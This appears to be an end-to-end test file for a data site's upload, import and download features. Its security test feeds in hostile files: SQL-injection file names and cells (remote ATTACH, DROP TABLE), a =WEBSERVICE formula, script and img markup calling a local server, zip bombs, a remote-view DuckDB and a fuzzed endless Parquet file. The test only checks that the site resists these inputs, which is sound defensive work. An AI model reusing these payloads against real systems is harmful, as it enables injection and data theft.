import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { DuckDBInstance } from '@duckdb/node-api';
import { tableFromArrays, tableToIPC } from '@uwdata/flechette';
import { strToU8, zipSync } from 'fflate';
import { parquetMetadata } from 'hyparquet';
import { parquetWriteBuffer } from 'hyparquet-writer';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { launchBrowser } from '../browser';
import { largeCsv, workbook } from '../lib/data/import/files';
import { duckdbWithView } from '../lib/data/import/hostile-duckdb';
import { borrowWatched } from './borrow';

const site = inject('site');
const folder = mkdtempSync(join(tmpdir(), 'immex-atlas-own-'));

let browser: Browser;
beforeAll(async () => void (browser = await launchBrowser()));
afterAll(async () => {
  await browser.close();
  rmSync(folder, { recursive: true });
});

const file = (name: string, content: string | Uint8Array) => {
  const path = join(folder, name);
  writeFileSync(path, content);
  return path;
};
const open = async (path = '/datos-propios/', prepare?: (page: Page) => Promise<unknown>) => {
  const watched = await borrowWatched(browser, site);
  await prepare?.(watched.page);
  await watched.page.goto(site + path, { waitUntil: 'networkidle' });
  return watched;
};
const step = (page: Page, kind: string, timeout = 30_000) => page.locator(`[data-own="${kind}"]`).waitFor({ timeout });
const choose = (page: Page, path: string) => page.locator('.own input[type=file]').setInputFiles(path);
const submit = (page: Page) => page.locator('.own form button[type=submit]').click();

/** Chooses a file and loads it as guessed. */
async function load(page: Page, path: string) {
  await choose(page, path);
  await step(page, 'preview');
  await submit(page);
  await step(page, 'done');
}

const EMPLOYMENT =
  'INEGI. Empleo por municipio \x80\n\nEstado;Municipio;Fecha;Puestos;Parte (%)\nChihuahua;Ju\xe1rez;31/01/2024;276.137;12,5\nSonora;Atlantis;28/02/2024;C;3,25\n';

describe('a reader’s own file', () => {
  it('is dropped, previewed, corrected, matched, loaded, kept over a reload and removed', async () => {
    const { page, faults, close } = await open();
    const bytes = [...EMPLOYMENT].map((letter) => letter.charCodeAt(0));
    const transfer = await page.evaluateHandle((content) => {
      const data = new DataTransfer();
      data.items.add(new File([new Uint8Array(content)], 'Empleo 2024.csv'));
      return data;
    }, bytes);
    await page.dispatchEvent('.zone', 'drop', { dataTransfer: transfer });
    await step(page, 'preview');
    expect(await page.locator('.own select').first().inputValue()).toBe('windows-1252');
    expect(await page.locator('.own tbody tr').first().innerText()).toMatch(
      /Chihuahua\s+Juárez\s+31\/01\/2024\s+276\.137\s+12,5/
    );

    // Every guess is open: another delimiter and back, a column by another name, one left out.
    await page.getByLabel('Separador').selectOption(',');
    await page.locator('.own thead th').nth(4).waitFor({ state: 'detached' });
    await page.getByLabel('Separador').selectOption(';');
    await page.getByLabel('Nombre de Puestos').fill('Puestos IMSS');
    await page.getByLabel('Nombre de Puestos').press('Tab');
    expect(await page.getByLabel('Nombre de Puestos').inputValue()).toBe('puestos_imss');
    await page.getByLabel('Cargar Fecha').uncheck();
    await page.getByLabel('Nombre de la tabla').fill('observation');
    await page.getByLabel(/Guardar el archivo/).check();
    await submit(page);

    await step(page, 'review');
    expect(await page.locator('.own tbody tr').count()).toBe(1);
    await submit(page);
    await step(page, 'done');
    // A published table's name is not taken.
    expect(await page.locator('.own [role=status]').first().innerText()).toContain(
      'observation_2 está lista: 2 filas y 5 columnas'
    );
    await page.locator('.own li details summary').click();
    const preview = await page.locator('.own li table').innerText();
    expect(preview).toMatch(/estado\s+municipio\s+puestos_imss\s+parte\s+place_id/);
    expect(preview).toMatch(/Chihuahua\s+Juárez\s+276137\s+12\.5\s+08037/);
    expect(preview).toMatch(/Sonora\s+Atlantis\s+s\. d\.\s+3\.25\s+s\. d\./);

    await page.reload({ waitUntil: 'networkidle' });
    await page.locator('[data-kept] button').first().click();
    await step(page, 'done');
    expect(await page.locator('.own [role=status]').first().innerText()).toContain(
      'observation_2 está lista: 2 filas y 5 columnas'
    );
    await page.getByRole('button', { name: 'Quitar observation_2' }).click();
    await page.getByText('Todavía no hay ninguna').waitFor();
    await page.reload({ waitUntil: 'networkidle' });
    expect(await page.locator('[data-kept]').count()).toBe(0);
    expect(faults).toEqual([]);
    await close();
  });

  it('may be a workbook, Parquet, Arrow, DuckDB or a zip, and comes back as CSV and Parquet with its places', async () => {
    const path = join(folder, 'own.duckdb');
    const instance = await DuckDBInstance.create(path);
    const writer = await instance.connect();
    await writer.run("CREATE TABLE ventas AS SELECT 'Sonora' AS estado, 1.5 AS v UNION ALL SELECT 'Nuevo León', 2");
    writer.closeSync();
    instance.closeSync();
    const table = tableFromArrays({ estado: ['Sonora', 'Nuevo León'], v: [1.5, 2] });
    const files = [
      file(
        'libro.xlsx',
        workbook([
          ['estado', 'v'],
          ['Sonora', 1.5],
          ['Nuevo León', 2]
        ])
      ),
      file(
        'a.parquet',
        new Uint8Array(
          parquetWriteBuffer({
            columnData: [
              { name: 'estado', data: ['Sonora', 'Nuevo León'] },
              { name: 'v', data: [1.5, 2] }
            ]
          })
        )
      ),
      file('b.arrow', tableToIPC(table, { format: 'file' })!),
      path,
      file('c.zip', zipSync({ 'd.tsv': strToU8('estado\tv\nSonora\t1.5\nNuevo León\t2\n') }))
    ];
    const { page, faults, close } = await open('/en/your-data/');
    for (const [i, name] of files.entries()) {
      await load(page, name);
      expect(await page.locator('.own > section li').count()).toBe(i + 1);
      const row = page.locator('.own > section li').last();
      await row.locator('summary').click();
      expect(await row.locator('tbody').innerText()).toMatch(/Sonora\s+1\.5\s+26\s+Nuevo León\s+2\s+19/);
    }
    const save = async (format: string) => {
      const [download] = await Promise.all([
        page.waitForEvent('download'),
        page.getByRole('button', { name: format, exact: true }).last().click()
      ]);
      return readFileSync(await download.path());
    };
    expect((await save('CSV')).toString()).toBe('\ufeffestado,v,place_id\r\nSonora,1.5,26\r\nNuevo León,2,19\r\n');
    const parquet = await save('Parquet');
    expect(Number(parquetMetadata(new Uint8Array(parquet).buffer).num_rows)).toBe(2);
    expect(faults).toEqual([]);
    await close();
  });

  it('may be INEGI’s IMMEX zip, which is recognised', async () => {
    const fixture = (name: string) =>
      new Uint8Array(readFileSync(new URL(`../fixtures/inegi-immex/${name}`, import.meta.url)));
    const zip = zipSync({
      'conjunto_de_datos/immex_manu_ent_2023.csv': fixture('immex_manu_ent_2023.csv'),
      'conjunto_de_datos/immex_manu_ent_2024.csv': fixture('immex_manu_ent_2024.csv')
    });
    const { page, faults, close } = await open();
    await choose(page, file('immex_manu_ent_csv.zip', zip));
    await step(page, 'preview');
    expect(await page.locator('.found').innerText()).toContain('Este es el archivo del programa IMMEX de INEGI');
    await submit(page);
    await step(page, 'done');
    expect(await page.locator('.report').innerText()).toMatch(
      /cifras publicadas de 3 municipios, de diciembre de 2023 a enero de 2024/
    );
    expect(faults).toEqual([]);
    await close();
  });

  it('that is hostile or broken gives a sentence, and the next one loads', async () => {
    const { page, faults, close } = await open();
    const refused = async (path: string, sentence: RegExp) => {
      await choose(page, path);
      await page.locator('.own [role=alert]').filter({ hasText: sentence }).waitFor({ timeout: 30_000 });
      await step(page, 'idle');
    };
    await refused(file('bomb.zip', zipSync({ 'bomb.csv': new Uint8Array(20e6) })), /crece demasiado/);
    await refused(file('a.pdf.csv', '%PDF-1.7'), /No se reconoce el tipo de archivo \(PDF\)/);
    await refused(file('cut.parquet', 'PAR1abc'), /dañado o no es lo que dice ser/);
    await refused(file('bad.duckdb', `12345678DUCK${'x'.repeat(5000)}`), /dañado o no es lo que dice ser/);
    await refused(file('empty.csv', ''), /no tiene filas/);
    // Its footer asks for a list without end: the decoder never comes back, and its worker is ended.
    await choose(page, file('endless.parquet', Buffer.from(ENDLESS, 'base64')));
    await page.getByRole('button', { name: 'Cancelar' }).click();
    await step(page, 'idle');
    await load(page, file('good.csv', 'a,b\n1,2\n'));
    expect(faults).toEqual([]);
    await close();
  });

  it('is loaded all the same where the browser keeps nothing, with a sentence', async () => {
    const { page, close } = await open('/datos-propios/', (page) =>
      page.addInitScript(() => {
        StorageManager.prototype.getDirectory = () => Promise.reject(new DOMException('denied', 'SecurityError'));
      })
    );
    await choose(page, file('kept.csv', 'a,b\n1,2\n'));
    await step(page, 'preview');
    await page.getByLabel(/Guardar el archivo/).check();
    await submit(page);
    await step(page, 'done');
    expect(await page.locator('.report').innerText()).toContain('no permite guardar archivos');
    await close();
  });
});

describe('a file that tries something', () => {
  it('makes no request, breaks nothing loaded before it, and is a table of texts or a sentence', async () => {
    const asked: string[] = [];
    const elsewhere = createServer((request, response) => {
      asked.push(request.url ?? '');
      response.writeHead(200, { 'access-control-allow-origin': '*' }).end('a,b\n1,2\n');
    });
    await new Promise<void>((done) => elsewhere.listen(0, '127.0.0.1', done));
    const address = `http://127.0.0.1:${(elsewhere.address() as AddressInfo).port}`;
    await fetch(`${address}/heard`);
    expect(asked).toEqual(['/heard']);

    const { page, faults, close } = await open();
    const tables = page.locator('.own > section li');
    await load(page, file('good.csv', 'a,b\n1,2\n'));
    const given = (name: string, content: string | Uint8Array) =>
      page
        .locator('.own input[type=file]')
        .setInputFiles({ name, mimeType: 'application/octet-stream', buffer: Buffer.from(content) });

    // Name of the file, names of its columns and its cells are SQL, a formula and markup.
    const sql = `'; ATTACH '${address}/a.duckdb' AS x; DROP TABLE good; --`;
    await given(
      `good"; SELECT * FROM read_csv('${address.replaceAll('/', ':')}').csv`,
      `"a""); ${sql}","<img src=${address}/i.png>",=WEBSERVICE("${address}/w")\n"${sql}","<script src=${address}/s.js></script>",=1+1\n`
    );
    await step(page, 'preview');
    await submit(page);
    await step(page, 'done');
    expect(await tables.count()).toBe(2);
    const table = tables.last();
    await table.locator('summary').click();
    expect(await table.locator('tbody td').first().innerText()).toBe(sql);
    expect(await table.locator('img, script').count()).toBe(0);
    const name = await table.locator('code').innerText();
    expect(name).toMatch(/^[a-z_][a-z0-9_]*$/);

    // A database with a view over another origin: its table is read, its view is none.
    const view = await duckdbWithView(folder, `${address}/from-a-view/${'of-a-dropped-file/'.repeat(6)}secret.csv`);
    await given('view.duckdb', view);
    await step(page, 'preview');
    await submit(page);
    await step(page, 'done');
    expect(await tables.count()).toBe(3);
    expect(await tables.last().locator('thead th').allTextContents()).toEqual(['a', 'b']);

    // A zip of nothing, packed a thousand to one, and a Parquet file of five thousand columns.
    for (const [hostile, bytes] of [
      ['bomb.zip', zipSync({ 'a.csv': new Uint8Array(40e6), 'b.csv': new Uint8Array(40e6) }, { level: 9 })],
      ['absurd.parquet', absurdParquet()]
    ] as const) {
      await given(hostile, bytes);
      await page.locator('.own [role=alert]').waitFor();
      await step(page, 'idle');
      expect(await tables.count()).toBe(3);
    }

    await page.getByRole('link', { name: 'Abrir en el banco de consultas' }).first().click();
    // The plain field gives way to the editor once it is turned to.
    await page.locator('main :is(textarea, [data-editor])').first().hover();
    await page.locator('[data-editor]').click();
    await page.keyboard.press('Control+A');
    await page.keyboard.insertText(`SELECT (SELECT b FROM good) AS b, (SELECT count(*) FROM ${name}) AS n`);
    await page.getByRole('button', { name: 'Correr' }).click();
    await page.locator('[data-result] tbody td').first().waitFor({ timeout: 90_000 });
    expect(await page.locator('[data-result] tbody td').allInnerTexts()).toEqual(['2', '1']);
    expect(asked).toEqual(['/heard']);
    expect(faults).toEqual([]);
    await close();
    await new Promise((done) => elsewhere.close(done));
  });
});

/** A Parquet file of far more columns than are taken. */
function absurdParquet(): Uint8Array {
  const column = (i: number) => ({ name: `c${i}`, data: [i], type: 'INT32' as const });
  return new Uint8Array(parquetWriteBuffer({ columnData: Array.from({ length: 5_000 }, (_, i) => column(i)) }));
}

/** A mutated Parquet file whose footer never ends, found by fuzzing. */
const ENDLESS =
  'UEFSMRUGFRgVHFwVnhUAFQQVABUEFQAAAAMDCiQBAAAAeAEAAAB5FQYVJBUkXBUEFQAVBBUAFQQVAAAAAwMQAAAFASTwPwAAAAAAAABAFQQZPEgEcm9vdBUEABUMJQIkAWElAAAVCiUCGAFiABYEGRwZLCYIHBUMGRUAGRgBYRUCFgQWQhZGJgg8NgAoAXkYAXgAGRwVBhUAFQIAAAAmThwVChkVABkYAWIVAhYEFk4WTiZOPDYAKAgAAAAAAAAAQBgIAAAAAAAA8D82AAAZHBUGFQAVAgAAABaQARYENpQBACgJaHlwYXJxdWV0GSwcAAAcAAAAqAAAAFBBUjE=';

describe('large files (100 MB of CSV and a million rows of Parquet)', () => {
  it.each([
    ['CSV', 'csv'],
    ['Parquet', 'parquet']
  ])(
    '%s shows its progress, can be cancelled, and then loads',
    async (_, kind) => {
      const path = join(folder, `large.${kind}`);
      if (kind === 'csv') writeFileSync(path, Buffer.from(await largeCsv(100e6).arrayBuffer()));
      else writeFileSync(path, million());
      const { page, faults, close } = await open();
      await choose(page, path);
      await step(page, 'preview');
      await page.evaluate(() => {
        const seen = new Set<number>();
        Object.assign(window, { seen });
        const look = () => {
          const bar = document.querySelector('progress');
          if (bar && bar.position > 0) seen.add(Math.round(bar.position * 100));
          requestAnimationFrame(look);
        };
        look();
      });
      await submit(page);
      await page.locator('progress[value]').waitFor();
      await page.getByRole('button', { name: 'Cancelar' }).click();
      await step(page, 'idle');
      expect(await page.locator('.own > section li').count()).toBe(0);

      const started = Date.now();
      await choose(page, path);
      await step(page, 'preview');
      await submit(page);
      await step(page, 'done', 120_000);
      const steps = await page.evaluate(() => (window as unknown as { seen: Set<number> }).seen.size);
      console.log(
        `${kind}: loaded in ${((Date.now() - started) / 1000).toFixed(1)} s, ${steps} steps of progress seen`
      );
      expect(steps).toBeGreaterThan(1);
      const said = await page.locator('.report').innerText();
      if (kind === 'parquet') expect(said).toContain('1,000,000 filas');
      expect(faults).toEqual([]);
      await close();
    },
    360_000
  );

  function million(): Uint8Array {
    const rows = 1_000_000;
    const column = <Value>(of: (i: number) => Value) => Array.from({ length: rows }, (_, i) => of(i));
    return new Uint8Array(
      parquetWriteBuffer({
        columnData: [
          { name: 'cvegeo', type: 'STRING', data: column((i) => String(1002 + (i % 32) * 1000).padStart(5, '0')) },
          { name: 'anio', type: 'INT32', data: column((i) => 2000 + (i % 25)) },
          { name: 'valor', type: 'DOUBLE', data: column((i) => ((i * 7919) % 100_003) / 10) }
        ]
      })
    );
  }
});

describe('downloads', () => {
  it('give a selection as CSV, zip, Parquet and JSON, and snippets that follow it', async () => {
    const { page, faults, close } = await open('/en/data/exports/');
    const form = page.locator('[data-selection]');
    await form.getByRole('combobox', { name: /^Level/ }).selectOption('state');
    await form.getByLabel('Place (name or code)').fill('chihuahua');
    await form.getByLabel('Place (name or code)').press('Tab');
    await form.getByRole('combobox', { name: /^Sector/ }).selectOption('336');
    await form.getByRole('combobox', { name: /^From/ }).selectOption('2020');
    await expect.poll(() => form.locator('[data-snippet=sql]').innerText()).toContain("b.place_id = '08'");
    expect(await form.locator('[data-snippet=sql]').innerText()).toContain(`${site}/data/latest/atlas.duckdb`);
    await form.locator('label', { hasText: 'Stata' }).click();
    expect(await form.locator('[data-snippet=stata]').innerText()).toContain('keep if sector_id == "336"');
    await form.getByRole('button', { name: 'Prepare the files' }).click();
    await form.locator('[data-files]').waitFor({ timeout: 60_000 });
    const names: string[] = [];
    for (const format of ['CSV', 'CSV with metadata (zip)', 'Parquet', 'JSON']) {
      const [download] = await Promise.all([
        page.waitForEvent('download'),
        form.getByRole('button', { name: format, exact: true }).click()
      ]);
      names.push(download.suggestedFilename());
      if (format === 'JSON') {
        const { metadata, rows } = JSON.parse(readFileSync(await download.path(), 'utf8')) as {
          metadata: Record<string, unknown>;
          rows: unknown[];
        };
        expect(rows).toHaveLength(6);
        expect(metadata).toMatchObject({ unit: 'USD', measure: 'exports', url: `${site}/en/data/exports/` });
      }
    }
    expect(names).toEqual(['exports.csv', 'exports.zip', 'exports.parquet', 'exports.json']);
    expect(faults).toEqual([]);
    await close();
  });

  it('have a coverage map that is walked by keyboard and says each cell', async () => {
    const { page, faults, close } = await open('/datos/');
    const map = page.locator('[data-coverage] .map:visible');
    await map.focus();
    await page.keyboard.press('ArrowDown');
    await page.keyboard.press('ArrowRight');
    expect(await page.locator('[data-coverage] .said:visible').innerText()).toMatch(
      /^Personal ocupado .*, 2008: [\d,]+ celdas \(/
    );
    await page.locator('[data-coverage]').getByText('aduanas', { exact: true }).click();
    expect(await page.locator('[data-coverage] .map:visible svg text').allInnerTexts()).not.toContain('Población');
    expect(faults).toEqual([]);
    await close();
  });
});
